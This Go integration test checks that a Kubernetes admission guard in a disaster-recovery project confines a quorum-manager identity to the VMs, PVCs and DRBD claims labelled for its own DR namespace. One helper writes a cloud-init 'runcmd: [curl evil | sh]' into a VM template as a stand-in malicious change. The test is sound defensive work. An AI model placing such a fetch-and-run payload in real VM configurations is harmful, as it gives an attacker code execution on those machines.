package charts

import (
	"testing"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	kubevirtv1 "kubevirt.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	srv1alpha1 "github.com/siterecovery/siterecovery/apis/siterecovery/v1alpha1"
)

// TestQuorumGuardTouchesOnlyWhatItOwns acts as dr-production's quorum
// identity on a real API server with the workload chart's guard: it changes
// and deletes what carries its dr-namespace label, takes an unlabelled VM or
// PVC into its care by adding that label alone, and changes its own claims of
// the shared DRBDAllocation; a stolen quorum kubeconfig cannot delete an
// application's PVC, VM, pod or Service, rewrite a VM's template, move a VM
// or PVC away from another DR namespace, or drop that namespace's claims.
func TestQuorumGuardTouchesOnlyWhatItOwns(t *testing.T) {
	g := startGuarded(t)
	admin, quorum, ctx := g.admin, g.quorum, t.Context()
	dry := client.DryRunAll

	of := func(drNamespace string) map[string]string {
		if drNamespace == "" {
			return nil
		}
		return map[string]string{srv1alpha1.DRNamespaceLabel: drNamespace, srv1alpha1.ProtectionRequestLabel: "req"}
	}
	pvc := func(name, drNamespace string) *corev1.PersistentVolumeClaim {
		return &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Namespace: "apps", Name: name, Labels: of(drNamespace)},
			Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
				Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}}}}
	}
	vm := func(name, drNamespace string) *kubevirtv1.VirtualMachine {
		v := &kubevirtv1.VirtualMachine{ObjectMeta: metav1.ObjectMeta{Namespace: "apps", Name: name, Labels: map[string]string{"app": name}},
			Spec: kubevirtv1.VirtualMachineSpec{RunStrategy: ptr.To(kubevirtv1.RunStrategyAlways), Template: &kubevirtv1.VirtualMachineInstanceTemplateSpec{}}}
		if drNamespace != "" {
			v.Labels[srv1alpha1.DRNamespaceLabel] = drNamespace
		}
		return v
	}
	for _, obj := range []client.Object{
		pvc("mine", "dr-production"), pvc("theirs", "dr-staging"), pvc("plain", ""),
		vm("vm-mine", "dr-production"), vm("vm-theirs", "dr-staging"), vm("vm-plain", ""),
		&corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "apps", Name: "web"},
			Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 80}}}},
		&corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "apps", Name: "web"},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "web", Image: "registry.k8s.io/pause:3.10"}}}},
	} {
		require.NoError(t, admin.Create(ctx, obj), "%T %s", obj, obj.GetName())
	}
	claim := func(drNamespace, uid string, port int32) srv1alpha1.DRBDClaim {
		return srv1alpha1.DRBDClaim{RequestUID: uid, DRNamespace: drNamespace, Port: port, Minors: []int32{port - 6000}, ClaimedAt: metav1.Now()}
	}
	alloc := &srv1alpha1.DRBDAllocation{ObjectMeta: metav1.ObjectMeta{Name: srv1alpha1.DRBDAllocationName},
		Spec: srv1alpha1.DRBDAllocationSpec{Claims: []srv1alpha1.DRBDClaim{claim("dr-staging", "s1", 7000), claim("dr-production", "p1", 7001)}}}
	require.NoError(t, admin.Create(ctx, alloc))

	// patch sends change of a fresh read as a merge patch with the read's
	// resourceVersion, as quorum-manager's flows do.
	patch := func(obj client.Object, change func(client.Object)) error {
		require.NoError(t, admin.Get(ctx, client.ObjectKeyFromObject(obj), obj))
		before := obj.DeepCopyObject().(client.Object)
		change(obj)
		return quorum.Patch(ctx, obj, client.MergeFromWithOptions(before, client.MergeFromWithOptimisticLock{}), dry)
	}
	// updateAllocation updates the DRBDAllocation as the protection flow's
	// claims do: a read, then an update with its resourceVersion.
	updateAllocation := func(change func(*srv1alpha1.DRBDAllocation)) error {
		a := &srv1alpha1.DRBDAllocation{}
		require.NoError(t, admin.Get(ctx, client.ObjectKeyFromObject(alloc), a))
		change(a)
		return quorum.Update(ctx, a, dry)
	}
	label := func(value string) func(client.Object) {
		return func(o client.Object) {
			l := o.GetLabels()
			if l == nil {
				l = map[string]string{}
			}
			l[srv1alpha1.DRNamespaceLabel] = value
			o.SetLabels(l)
		}
	}
	template := func(o client.Object) {
		o.(*kubevirtv1.VirtualMachine).Spec.Template.Spec.Volumes = []kubevirtv1.Volume{{Name: "init", VolumeSource: kubevirtv1.VolumeSource{
			CloudInitNoCloud: &kubevirtv1.CloudInitNoCloudSource{UserData: "#cloud-config\nruncmd: [curl evil | sh]\n"}}}}
	}
	halt := func(o client.Object) {
		o.(*kubevirtv1.VirtualMachine).Spec.RunStrategy = ptr.To(kubevirtv1.RunStrategyHalted)
	}

	t.Run("allowed", func(t *testing.T) {
		require.NoError(t, quorum.Delete(ctx, pvc("mine", ""), dry), "deleting its own PVC")
		require.NoError(t, patch(vm("vm-mine", ""), halt), "stopping a VM it protects")
		require.NoError(t, patch(vm("vm-mine", ""), template), "pg-sync's template of a VM it protects")
		require.NoError(t, quorum.Delete(ctx, vm("vm-mine", ""), dry), "deleting a standby it made")
		require.NoError(t, patch(vm("vm-plain", ""), label("dr-production")), "taking a VM into a group: its label alone")
		require.NoError(t, patch(pvc("plain", ""), func(o client.Object) {
			label("dr-production")(o)
			o.GetLabels()[srv1alpha1.ProtectionRequestLabel] = "req"
		}), "taking a source PVC into a group: its labels alone")
		require.NoError(t, patch(pvc("mine", ""), func(o client.Object) { o.SetLabels(nil) }), "releasing its own PVC")
		require.NoError(t, updateAllocation(func(a *srv1alpha1.DRBDAllocation) {
			a.Spec.Claims = append(a.Spec.Claims[:1], claim("dr-production", "p2", 7002))
		}), "replacing its own claim")
	})

	owns := "quorum-manager of dr-production changes or deletes only what carries its label siterecovery.trilio.io/dr-namespace=dr-production"
	t.Run("refused", func(t *testing.T) {
		refused(t, quorum.Delete(ctx, pvc("plain", ""), dry), owns)
		refused(t, quorum.Delete(ctx, pvc("theirs", ""), dry), "persistentvolumeclaims apps/theirs belongs to dr-staging")
		refused(t, quorum.Delete(ctx, vm("vm-plain", ""), dry), owns)
		refused(t, quorum.Delete(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "apps", Name: "web"}}, dry), owns)
		refused(t, quorum.Delete(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "apps", Name: "web"}}, dry), owns)

		refused(t, patch(vm("vm-plain", ""), template), "virtualmachines apps/vm-plain does not")
		refused(t, patch(vm("vm-plain", ""), halt), owns)
		// The label added together with anything else is not a claim alone.
		refused(t, patch(vm("vm-plain", ""), func(o client.Object) { label("dr-production")(o); template(o) }), owns)
		refused(t, patch(vm("vm-plain", ""), func(o client.Object) {
			label("dr-production")(o)
			o.SetAnnotations(map[string]string{"kubevirt.io/latest-observed-api-version": "v1"})
		}), owns)
		refused(t, patch(vm("vm-plain", ""), func(o client.Object) {
			label("dr-production")(o)
			o.GetLabels()["app"] = "other"
		}), owns)
		refused(t, patch(vm("vm-plain", ""), label("dr-staging")), owns)
		// Another DR namespace's VM and PVC stay its own.
		refused(t, patch(vm("vm-theirs", ""), label("dr-production")), "virtualmachines apps/vm-theirs belongs to dr-staging")
		refused(t, patch(pvc("theirs", ""), label("dr-production")), "belongs to dr-staging")

		refused(t, updateAllocation(func(a *srv1alpha1.DRBDAllocation) { a.Spec.Claims = a.Spec.Claims[1:] }), "quorum-manager of dr-production changes only its own claims of DRBDAllocation default")
	})
}
